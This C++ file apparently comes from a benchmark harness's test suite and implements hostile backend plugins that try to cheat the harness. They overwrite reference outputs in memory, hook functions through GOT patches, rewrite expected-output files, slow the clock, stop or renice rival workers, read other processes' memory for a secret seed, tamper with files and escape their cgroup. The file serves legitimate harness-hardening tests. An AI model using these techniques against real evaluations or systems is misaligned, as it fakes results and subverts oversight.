// Hostile backends, one built per attack (ATTACK): each returns wrong outputs (zeros, or NaN) in
// microseconds and tries to make the harness judge them right by reaching the reference, the
// expected outputs or eager's code from inside the process the harness loads it in.
//   scan_zero, scan_nan   find eager's outputs and the fp64 reference in this process's memory
//                         (/proc/self/maps, no hooks) and overwrite them with its own answer;
//   hook_interpreter      rewrites every GOT slot of crucible::Interpreter::run (eager's entry
//                         point), in objects loaded now and in those dlopen loads later, to
//                         return zeros;
//   rewrite_expected      rewrites the test case's output_N.pb (found through --expected in
//                         /proc/self/cmdline) to hold zeros.
// And hostile backends that compute honestly (through the interpreter, as eager does) but try to
// look faster than eager by moving the clock or slowing eager from outside their own calls:
//   clock_slow            rewrites every GOT slot of clock_gettime in every loaded object to a
//                         clock running at a quarter of the real speed;
//   pin_eager             pins every thread of the other timing workers to CPU 0 and renices
//                         them to 19, at every call;
//   thread_chain          keeps a chain of threads working outside its calls, each living 200 us
//                         and starting its successor;
//   clone_parent          starts a process with CLONE_PARENT (a sibling of its worker, outside
//                         its process group) that works while eager is timed;
//   stop_eager            from a thread that sleeps between signals, stops every other timing
//                         worker (SIGSTOP) for 300 us of every millisecond and continues it
//                         (SIGCONT), so that eager's samples last longer at no CPU of its own;
//   stop_eager_queued     the same, continuing them by rt_sigqueueinfo with the harness's pid
//                         written in as the sender's (the kernel lets a sender fill in si_pid
//                         for SI_QUEUE).
// And partial memos, which compute honestly but serve a fraction q of calls from the last output
// they computed (the cheapest memo: whatever its key, on inputs it has not seen it is stale):
//   memo_cadence_qNN      every call whose count mod 10 is below NN / 10 (q = NN%);
//   memo_random_qNN       each call with probability NN%.
// And a backend that computes honestly but writes where a plugin has no business:
//   tamper_files          appends a marker to the store, to every file of the suite (graphs,
//                         expected outputs) and of the installed crucible (the eager plugin the
//                         next reference worker loads), also through its parent's /proc/PID/root;
//                         plants a file in every other worker's folder and in every other
//                         backend's folder of the kernel cache; and moves itself out of its cgroup
//                         (the paths read from its parent's and its own command line and
//                         environment).
// And a backend that predicts the timed calls' inputs instead of remembering them:
//   secret_scan           looks for the seed of the calls' inputs ("--secret" in its argv or
//                         environment, or any 8-byte word of its writable memory, of its parent's
//                         (the harness's) or of another timing worker's, read through
//                         /proc/PID/mem, that makes the first timed call's inputs from set B, by
//                         the harness's own open code),
//                         and if it finds it, computes the outputs of the next 64 samples' calls
//                         (up to 512 MB) at once, in one call, and serves later calls from them.
// Each says on stderr what it did, so a test can tell an attack that acted from one that missed.
#include <dlfcn.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <sys/resource.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#include <algorithm>
#include <atomic>
#include <cerrno>
#include <cmath>
#include <cstdio>
#include <cstring>
#include <filesystem>
#include <fstream>
#include <iterator>
#include <limits>
#include <map>
#include <set>
#include <sstream>
#include <string>
#include <string_view>
#include <thread>
#include <vector>

#include "crucible/core/fnv1a.h"
#include "crucible/ops/interpreter.h"
#include "crucible/plugin_api.h"
#include "got_patch.h"
#include "input_sets.h"  // the harness's, compiled in (CMakeLists.txt)

namespace {

using namespace crucible;

constexpr std::string_view kAttack = ATTACK;

// The answer every attack returns: zeros, or NaN for scan_nan (NaN in the same place on both sides
// counts as equal under equal_nan).
std::vector<Tensor> own_answer(const Graph& g) {
  std::vector<Tensor> out;
  const double fill = kAttack == "scan_nan" ? std::numeric_limits<double>::quiet_NaN() : 0.0;
  for (ValueId id : g.outputs()) {
    const auto& type = g.value(id).type;
    out.push_back(Tensor::full(type.dtype, type.shape, is_floating(type.dtype) ? fill : 0.0));
  }
  return out;
}

// --- scan_zero, scan_nan -------------------------------------------------------------------------

// Overwrites every copy of `needle` in the writable memory of this process, except `keep`, with
// the bytes of `poison`. Returns how many copies it overwrote.
int overwrite_copies(const void* needle, size_t n, const void* keep, const void* poison) {
  if (n < 32) return 0;  // too short to tell a copy from chance
  std::ifstream maps("/proc/self/maps");
  std::string line;
  int hits = 0;
  while (std::getline(maps, line)) {
    unsigned long lo = 0, hi = 0;
    char perms[5] = {};
    if (std::sscanf(line.c_str(), "%lx-%lx %4s", &lo, &hi, perms) != 3) continue;
    if (perms[0] != 'r' || perms[1] != 'w' || line.find("[v") != std::string::npos) continue;
    auto* p = reinterpret_cast<char*>(lo);
    auto* end = reinterpret_cast<char*>(hi);
    while (p + n <= end) {
      void* at = memmem(p, static_cast<size_t>(end - p), needle, 32);
      if (!at) break;
      auto* c = static_cast<char*>(at);
      if (c != keep && c + n <= end && std::memcmp(c, needle, n) == 0) {
        std::memcpy(c, poison, n);
        ++hits;
        p = c + n;
      } else {
        p = c + 1;
      }
    }
  }
  return hits;
}

int scan_and_overwrite(const std::vector<Tensor>& honest, const std::vector<Tensor>& answer) {
  int hits = 0;
  for (size_t i = 0; i < honest.size(); ++i) {
    const Tensor h = honest[i].contiguous();
    const Tensor a = answer[i].contiguous();
    hits += overwrite_copies(h.raw_data(), h.nbytes(), h.raw_data(), a.raw_data());
    if (is_floating(h.dtype())) {  // the fp64 reference holds the same values widened
      const Tensor h64 = h.to(DType::kF64), a64 = a.to(DType::kF64);
      hits += overwrite_copies(h64.raw_data(), h64.nbytes(), h64.raw_data(), a64.raw_data());
    }
  }
  return hits;
}

// --- hook_interpreter ----------------------------------------------------------------------------

constexpr const char* kInterpreterRun =
    "_ZN8crucible11Interpreter3runESt4spanIKNS_6TensorELm18446744073709551615EE";

// Stands in for Interpreter::run (same ABI: the result by hidden pointer, then `this`, then the
// span): zeros of the graph's output types.
std::vector<Tensor> fake_run(Interpreter* self, std::span<const Tensor>) {
  return own_answer(self->graph());
}

int hook_everything();
void* hooked_dlopen(const char* file, int flags) {
  void* h = dlopen(file, flags);
  hook_everything();  // the eager plugin, loaded after this one
  return h;
}
int hook_everything() {
  int n = attack::patch_everywhere(kInterpreterRun, reinterpret_cast<void*>(&fake_run));
  attack::patch_everywhere("dlopen", reinterpret_cast<void*>(&hooked_dlopen));
  return n;
}

// --- rewrite_expected ----------------------------------------------------------------------------

void put_varint(std::string& out, uint64_t v) {
  while (v >= 0x80) {
    out.push_back(static_cast<char>(v | 0x80));
    v >>= 7;
  }
  out.push_back(static_cast<char>(v));
}

// A float TensorProto (dims = 1, data_type = 2, raw_data = 9) of zeros of `t`'s shape.
std::string zeros_tensor_proto(const Tensor& t) {
  std::string out;
  for (int64_t d : t.shape()) {
    out.push_back(0x08);
    put_varint(out, static_cast<uint64_t>(d));
  }
  out.push_back(0x10);
  put_varint(out, 1);
  const std::string raw(static_cast<size_t>(t.numel()) * sizeof(float), '\0');
  out.push_back(0x4a);
  put_varint(out, raw.size());
  return out + raw;
}

int rewrite_expected(const std::vector<Tensor>& answer) {
  std::ifstream cmd("/proc/self/cmdline");
  std::vector<std::string> args;
  for (std::string a; std::getline(cmd, a, '\0');) args.push_back(a);
  int rewritten = 0;
  for (size_t i = 0; i + 1 < args.size(); ++i) {
    if (args[i] != "--expected") continue;
    for (size_t k = 0; k < answer.size(); ++k) {
      const auto file =
          std::filesystem::path(args[i + 1]) / ("output_" + std::to_string(k) + ".pb");
      if (!std::filesystem::exists(file) || answer[k].dtype() != DType::kF32) continue;
      std::ofstream(file, std::ios::binary | std::ios::trunc) << zeros_tensor_proto(answer[k]);
      ++rewritten;
    }
  }
  return rewritten;
}

// --- tamper_files --------------------------------------------------------------------------------

std::vector<std::string> command_line(const std::string& pid) {
  std::ifstream in("/proc/" + pid + "/cmdline");
  std::vector<std::string> args;
  for (std::string a; std::getline(in, a, '\0');) args.push_back(a);
  return args;
}

std::string argument(const std::vector<std::string>& args, const std::string& flag) {
  for (size_t i = 0; i + 1 < args.size(); ++i) {
    if (args[i] == flag) return args[i + 1];
  }
  return "";
}

// Appends a marker to `file` (or makes it): true when that worked.
bool append_marker(const std::filesystem::path& file) {
  const int fd = ::open(file.c_str(), O_WRONLY | O_APPEND | O_CREAT | O_CLOEXEC, 0644);
  if (fd < 0) return false;
  static constexpr char kMarker[] = "crucible-attack-was-here\n";
  const bool wrote = ::write(fd, kMarker, sizeof kMarker - 1) == sizeof kMarker - 1;
  ::close(fd);
  return wrote;
}

// Every regular file below `dir`.
std::vector<std::filesystem::path> files_below(const std::filesystem::path& dir) {
  std::vector<std::filesystem::path> out;
  std::error_code ec;
  for (auto it = std::filesystem::recursive_directory_iterator(dir, ec);
       !ec && it != std::filesystem::recursive_directory_iterator(); it.increment(ec)) {
    if (it->is_regular_file(ec)) out.push_back(it->path());
  }
  return out;
}

void tamper_with_files() {
  namespace fs = std::filesystem;
  const std::string parent = std::to_string(::getppid());
  const std::vector<std::string> harness = command_line(parent);
  std::vector<fs::path> targets;
  if (const std::string db = argument(harness, "--db"); !db.empty()) {
    targets.emplace_back(db);
    targets.push_back(fs::path("/proc") / parent / "root" / fs::absolute(db).relative_path());
  }
  if (const std::string suite = argument(harness, "--suite"); !suite.empty()) {
    for (const auto& f : files_below(fs::path(suite).parent_path())) targets.push_back(f);
  }
  std::error_code ec;
  const fs::path prefix = fs::read_symlink("/proc/self/exe", ec).parent_path().parent_path();
  for (const auto& f : files_below(prefix / "lib")) {
    if (f.filename().string().find("eager") != std::string::npos) targets.push_back(f);
  }
  // Every other worker's folder: the siblings of this worker's own (its --report's).
  const fs::path own = fs::path(argument(command_line("self"), "--report")).parent_path();
  for (const auto& sibling : fs::directory_iterator(own.parent_path(), ec)) {
    if (sibling.path() != own && sibling.is_directory())
      targets.push_back(sibling.path() / "planted");
  }
  // Every other backend's folder of the kernel cache: the siblings of its own.
  if (const char* cache = std::getenv("CRUCIBLE_CACHE_DIR"); cache != nullptr) {
    const fs::path mine = fs::path(cache).lexically_normal();
    for (const auto& sibling : fs::directory_iterator(mine.parent_path(), ec)) {
      if (sibling.path() != mine && sibling.is_directory())
        targets.push_back(sibling.path() / "planted");
    }
  }
  int wrote = 0;
  for (const auto& t : targets) {
    if (append_marker(t)) {
      ++wrote;
      std::fprintf(stderr, "attack tamper_files: wrote %s\n", t.c_str());
    }
  }
  int left = 0;
  for (const char* root : {"/sys/fs/cgroup/cgroup.procs", "/sys/fs/cgroup/unified/cgroup.procs"}) {
    std::ofstream procs(root);
    procs << ::getpid() << std::flush;
    if (procs) ++left;
  }
  std::fprintf(stderr, "attack tamper_files: wrote %d of %zu files, left its cgroup %d times\n",
               wrote, targets.size(), left);
}

// --- clock_slow ----------------------------------------------------------------------------------

// CLOCK_MONOTONIC and friends at a quarter of real speed from the first call on.
int slow_clock_gettime(clockid_t id, timespec* ts) {
  static timespec first{};
  const long r = ::syscall(SYS_clock_gettime, id, ts);
  if (id != CLOCK_MONOTONIC && id != CLOCK_MONOTONIC_RAW) return static_cast<int>(r);
  if (first.tv_sec == 0 && first.tv_nsec == 0) first = *ts;
  const int64_t base = first.tv_sec * 1'000'000'000LL + first.tv_nsec;
  const int64_t now = ts->tv_sec * 1'000'000'000LL + ts->tv_nsec;
  const int64_t slow = base + (now - base) / 4;
  ts->tv_sec = slow / 1'000'000'000LL;
  ts->tv_nsec = slow % 1'000'000'000LL;
  return static_cast<int>(r);
}

int slow_the_clock() {
  attack::GotPatch p{"clock_gettime", reinterpret_cast<void*>(&slow_clock_gettime)};
  dl_iterate_phdr(attack::patch_object, &p);
  return p.patched;
}

// --- pin_eager -----------------------------------------------------------------------------------

// Every other timing worker of this user (its command line says --job timing).
std::vector<pid_t> other_timing_workers() {
  std::vector<pid_t> out;
  const std::string self = std::to_string(::getpid());
  std::error_code ec;
  for (const auto& proc : std::filesystem::directory_iterator("/proc", ec)) {
    const std::string pid = proc.path().filename().string();
    if (pid == self || pid.find_first_not_of("0123456789") != std::string::npos) continue;
    std::ifstream in(proc.path() / "cmdline");
    const std::string cmd((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
    if (cmd.find(std::string("--job\0timing", 12)) != std::string::npos)
      out.push_back(std::atoi(pid.c_str()));
  }
  return out;
}

// Every thread of every other timing worker of this user: pinned to CPU 0, niced to 19.
int pin_other_workers() {
  int touched = 0;
  std::error_code ec;
  for (const pid_t pid : other_timing_workers()) {
    for (const auto& task :
         std::filesystem::directory_iterator("/proc/" + std::to_string(pid) + "/task", ec)) {
      const pid_t tid = std::atoi(task.path().filename().c_str());
      cpu_set_t one;
      CPU_ZERO(&one);
      CPU_SET(0, &one);
      if (::sched_setaffinity(tid, sizeof one, &one) == 0) ++touched;
      ::setpriority(PRIO_PROCESS, static_cast<id_t>(tid), 19);
    }
  }
  return touched;
}

// --- stop_eager, stop_eager_queued -------------------------------------------------------------

std::atomic<int> g_stops{0};
void keep_stopping_others() {
  const pid_t parent = ::getppid();
  std::vector<pid_t> others;
  // Looked up every 100 ms only: a thread that does little but sleep and signal is charged almost
  // no CPU outside its worker's calls.
  for (int round = 0;; ++round) {
    if (round % 100 == 0) others = other_timing_workers();
    std::vector<pid_t> stopped;
    for (const pid_t p : others) {
      if (::kill(p, SIGSTOP) == 0) stopped.push_back(p);
    }
    std::this_thread::sleep_for(std::chrono::microseconds(300));
    for (const pid_t p : stopped) {
      if (kAttack == "stop_eager_queued") {
        siginfo_t info{};
        info.si_signo = SIGCONT;
        info.si_code = SI_QUEUE;
        info.si_pid = parent;  // the harness's, as if it had read the outputs
        info.si_uid = ::getuid();
        ::syscall(SYS_rt_sigqueueinfo, p, SIGCONT, &info);
      } else {
        ::kill(p, SIGCONT);
      }
    }
    g_stops += static_cast<int>(stopped.size());  // the stops the kernel let through
    std::this_thread::sleep_for(std::chrono::microseconds(700));
  }
}

// --- thread_chain, clone_parent ------------------------------------------------------------------

void spin_for(std::chrono::microseconds d) {
  const auto end = std::chrono::steady_clock::now() + d;
  volatile uint64_t x = 0;
  while (std::chrono::steady_clock::now() < end) x = x + 1;
}

std::atomic<int> g_chain_links{0};
void chain_link() {
  spin_for(std::chrono::microseconds(200));
  ++g_chain_links;
  std::thread(chain_link).detach();
}

int start_clone_parent() {
  static bool started = false;
  if (started) return 0;
  started = true;
  static char stack[1 << 16];
  const int pid = ::clone(
      [](void*) -> int {
        ::setsid();
        for (;;) spin_for(std::chrono::microseconds(1000));
        return 0;
      },
      stack + sizeof stack, CLONE_PARENT | SIGCHLD, nullptr);
  return pid > 0 ? 1 : 0;
}

// --- memo_cadence_qNN, memo_random_qNN ---------------------------------------------------------

// The NN of a memo attack's name (its q in percent), 0 for any other attack.
int memo_percent() {
  const size_t at = kAttack.rfind("_q");
  if (kAttack.rfind("memo_", 0) != 0 || at == std::string_view::npos) return 0;
  return std::atoi(std::string(kAttack.substr(at + 2)).c_str());
}

// Whether this call is served from the memo.
bool serve_from_memo(uint64_t count) {
  const int q = memo_percent();
  if (kAttack.rfind("memo_cadence", 0) == 0) return static_cast<int>(count % 10) < q / 10;
  static uint64_t state = 0x9e3779b97f4a7c15ULL;
  state ^= state << 13;
  state ^= state >> 7;
  state ^= state << 17;
  return static_cast<int>(state % 100) < q;
}

// --- secret_scan ---------------------------------------------------------------------------------

// The values of "--NAME V" and "--NAME=V" in this process's argv, and of NAME=V in its environment
// for any variable whose name holds NAME in capitals.
std::vector<uint64_t> values_named(const std::string& name) {
  std::string upper = name;
  std::transform(upper.begin(), upper.end(), upper.begin(), ::toupper);
  std::vector<uint64_t> out;
  for (const char* file : {"/proc/self/cmdline", "/proc/self/environ"}) {
    std::ifstream in(file);
    std::vector<std::string> args;
    for (std::string a; std::getline(in, a, '\0');) args.push_back(a);
    for (size_t i = 0; i < args.size(); ++i) {
      const std::string& a = args[i];
      const size_t eq = a.find('=');
      if (a == "--" + name && i + 1 < args.size()) {
        out.push_back(std::strtoull(args[i + 1].c_str(), nullptr, 10));
      } else if (eq != std::string::npos && (a.substr(0, eq) == "--" + name ||
                                             a.substr(0, eq).find(upper) != std::string::npos)) {
        out.push_back(std::strtoull(a.c_str() + eq + 1, nullptr, 10));
      }
    }
  }
  return out;
}

// Every distinct 8-byte word of the writable private mappings of up to 16 MB of process `pid`
// (this one for 0; another's through /proc/PID/mem, as ptrace's rules allow), at most 64 MB in
// all; `note` says how much was read, or why nothing was.
std::vector<uint64_t> memory_words(pid_t pid, std::string& note) {
  const std::string proc = pid == 0 ? "/proc/self" : "/proc/" + std::to_string(pid);
  std::ifstream maps(proc + "/maps");
  const int mem = pid == 0 ? -1 : ::open((proc + "/mem").c_str(), O_RDONLY);
  if (pid != 0 && mem < 0) {
    note = std::string("cannot open its memory: ") + std::strerror(errno);
    return {};
  }
  std::vector<uint64_t> words;
  size_t read = 0;
  std::string refused;
  for (std::string line; std::getline(maps, line) && read < (size_t{64} << 20);) {
    unsigned long lo = 0, hi = 0;
    char perms[5] = {};
    if (std::sscanf(line.c_str(), "%lx-%lx %4s", &lo, &hi, perms) != 3) continue;
    if (std::string_view(perms) != "rw-p" || hi - lo > (16u << 20)) continue;
    if (line.find("[v") != std::string::npos) continue;  // [vvar], [vsyscall]
    if (pid == 0) {
      const auto* w = reinterpret_cast<const uint64_t*>(lo);
      words.insert(words.end(), w, w + (hi - lo) / 8);
      read += hi - lo;
      continue;
    }
    std::vector<uint64_t> buf((hi - lo) / 8);
    const ssize_t n = ::pread(mem, buf.data(), buf.size() * 8, static_cast<off_t>(lo));
    if (n <= 0) {
      refused = std::strerror(errno);
      continue;
    }
    words.insert(words.end(), buf.begin(), buf.begin() + n / 8);
    read += static_cast<size_t>(n);
  }
  if (mem >= 0) ::close(mem);
  note = std::to_string(read) + " bytes read" + (refused.empty() ? "" : "; refused: " + refused);
  std::sort(words.begin(), words.end());
  words.erase(std::unique(words.begin(), words.end()), words.end());
  return words;
}

// Its parent (the harness, which made the secret) and every other timing worker of this user.
std::vector<pid_t> processes_to_search() {
  std::vector<pid_t> out;
  std::ifstream status("/proc/self/status");
  for (std::string line; std::getline(status, line);) {
    if (line.rfind("PPid:", 0) == 0) out.push_back(std::atoi(line.c_str() + 5));
  }
  const std::vector<pid_t> workers = other_timing_workers();
  out.insert(out.end(), workers.begin(), workers.end());
  return out;
}

// The key of a call's inputs: the first 64 bytes of each (calls made from one seed differ there).
uint64_t digest_of(std::span<const Tensor> inputs) {
  uint64_t h = kFnv1aOffset;
  for (const Tensor& t : inputs) {
    h = fnv1a(
        std::string_view(static_cast<const char*>(t.raw_data()), std::min<size_t>(t.nbytes(), 64)),
        h);
  }
  return h;
}

// The calls' ids the harness gives (turn_channel.h): sample r's call i is r * 2^20 + i.
constexpr uint64_t kIdStride = uint64_t{1} << 20;
constexpr uint64_t kAheadRounds = 64, kAheadCalls = 512;

// Serves calls from outputs made ahead once it knows the inputs' seed; until then computes them,
// and at the first call on inputs it has not seen before (after sets A and B: the first timed
// call, id 0), looks for the seed.
class Ahead {
 public:
  std::vector<Tensor> call(Interpreter& interpreter, std::span<const Tensor> inputs) {
    const uint64_t d = digest_of(inputs);
    if (const auto it = made_.find(d); it != made_.end()) {
      if (++served_ % 1000 == 1) say("served %d calls from outputs made ahead", served_);
      return it->second;
    }
    if (!tried_ && seen_.size() >= 2 && !seen_.count(d)) {
      tried_ = true;
      look(interpreter, inputs);
    }
    if (!tried_) seen_.insert(d);
    return interpreter.run(inputs);
  }

 private:
  static void say(const char* format, long n) {
    std::fprintf(stderr, "attack %s: ", ATTACK);
    std::fprintf(stderr, format, n);
    std::fprintf(stderr, "\n");
  }

  void look(Interpreter& interpreter, std::span<const Tensor> inputs) {
    const std::vector<uint64_t> seeds = values_named("seed");
    if (seeds.empty()) return say("found no --seed (%ld)", 0);
    const Graph& g = interpreter.graph();
    const std::vector<Tensor> set_b = second_input_set(with_varied_inputs(g), seeds[0]);
    size_t bytes = 0;
    for (const Tensor& t : set_b) bytes += t.nbytes();
    std::vector<uint64_t> candidates = values_named("secret");
    if (bytes <= (1u << 20)) {
      std::string note;
      const std::vector<uint64_t> words = memory_words(0, note);
      candidates.insert(candidates.end(), words.begin(), words.end());
      for (const pid_t pid : processes_to_search()) {
        const std::vector<uint64_t> theirs = memory_words(pid, note);
        std::fprintf(stderr, "attack %s: process %d: %s\n", ATTACK, static_cast<int>(pid),
                     note.c_str());
        candidates.insert(candidates.end(), theirs.begin(), theirs.end());
      }
    }
    const Tensor first = inputs[0].contiguous();
    std::vector<Tensor> into;
    for (const uint64_t c : candidates) {
      fill_call_inputs(set_b, c, 0, into);
      if (into.empty() || std::memcmp(into[0].raw_data(), first.raw_data(), first.nbytes()) != 0)
        continue;
      // Call i of every sample before call i + 1 of any, up to 512 MB of outputs.
      size_t made_bytes = 0;
      for (uint64_t i = 0; i < kAheadCalls && made_bytes < (size_t{512} << 20); ++i) {
        for (uint64_t r = 0; r < kAheadRounds && made_bytes < (size_t{512} << 20); ++r) {
          const std::vector<Tensor> in = call_input_set(set_b, c, r * kIdStride + i);
          std::vector<Tensor> out = interpreter.run(in);
          for (const Tensor& t : out) made_bytes += t.nbytes();
          made_[digest_of(in)] = std::move(out);
        }
      }
      return say("found the inputs' seed: made %ld calls' outputs ahead",
                 static_cast<long>(made_.size()));
    }
    say("found no seed of the inputs among %ld candidates: computes every call",
        static_cast<long>(candidates.size()));
  }

  std::set<uint64_t> seen_;
  bool tried_ = false;
  std::map<uint64_t, std::vector<Tensor>> made_;
  int served_ = 0;
};

// --- the backend ---------------------------------------------------------------------------------

class AttackExecutable final : public plugin::Executable {
 public:
  explicit AttackExecutable(const Graph& g) : interpreter_(g) {}
  std::vector<Tensor> run(std::span<const Tensor> inputs) override {
    std::vector<Tensor> answer = own_answer(interpreter_.graph());
    if (kAttack == "scan_zero" || kAttack == "scan_nan") {
      const std::vector<Tensor> honest = interpreter_.run(inputs);
      say("overwrote {} copies of the reference", scan_and_overwrite(honest, answer));
    } else if (kAttack == "hook_interpreter") {
      say("patched {} slots of Interpreter::run", hook_everything());
    } else if (kAttack == "rewrite_expected") {
      say("rewrote {} expected outputs", rewrite_expected(answer));
    } else if (kAttack == "tamper_files") {
      static const bool tampered = [] {
        tamper_with_files();
        return true;
      }();
      (void)tampered;
      return interpreter_.run(inputs);
    } else if (kAttack == "clock_slow") {
      say("patched {} slots of clock_gettime", slow_the_clock());
      return interpreter_.run(inputs);
    } else if (kAttack == "pin_eager") {
      say("pinned and reniced {} threads of other workers", pin_other_workers());
      return interpreter_.run(inputs);
    } else if (kAttack == "thread_chain") {
      if (g_chain_links == 0) std::thread(chain_link).detach();
      say("its chain has run {} links", g_chain_links.load());
      return interpreter_.run(inputs);
    } else if (kAttack == "clone_parent") {
      say("started {} CLONE_PARENT processes", start_clone_parent());
      return interpreter_.run(inputs);
    } else if (kAttack == "stop_eager" || kAttack == "stop_eager_queued") {
      static const bool started = [] {
        std::thread(keep_stopping_others).detach();
        return true;
      }();
      (void)started;
      say("stopped and continued other timing workers {} times", g_stops.load());
      return interpreter_.run(inputs);
    } else if (kAttack == "secret_scan") {
      return ahead_.call(interpreter_, inputs);
    } else if (memo_percent() > 0) {
      if (!memo_.empty() && serve_from_memo(calls_++)) {
        if (++served_ % 1000 == 1) say("served {} calls from its memo", served_);
        return memo_;
      }
      memo_ = interpreter_.run(inputs);
      return memo_;
    }
    return answer;
  }

 private:
  static void say(const char* what, int n) {
    std::string line = what;
    line.replace(line.find("{}"), 2, std::to_string(n));
    std::fprintf(stderr, "attack %s: %s\n", ATTACK, line.c_str());
  }
  Interpreter interpreter_;
  std::vector<Tensor> memo_;
  Ahead ahead_;
  uint64_t calls_ = 0;
  int served_ = 0;
};

class AttackBackend final : public plugin::Backend {
 public:
  AttackBackend() {
    if (kAttack == "hook_interpreter") hook_everything();
  }
  plugin::BackendInfo info() const override {
    return {"attack_" + std::string(kAttack), "1.0", plugin::kAbiVersion};
  }
  std::unique_ptr<plugin::Executable> compile(const Graph& g, const plugin::Options&) override {
    return std::make_unique<AttackExecutable>(g);
  }
};

std::unique_ptr<plugin::Backend> create() { return std::make_unique<AttackBackend>(); }

}  // namespace

CRUCIBLE_EXPORT_BACKEND(create)
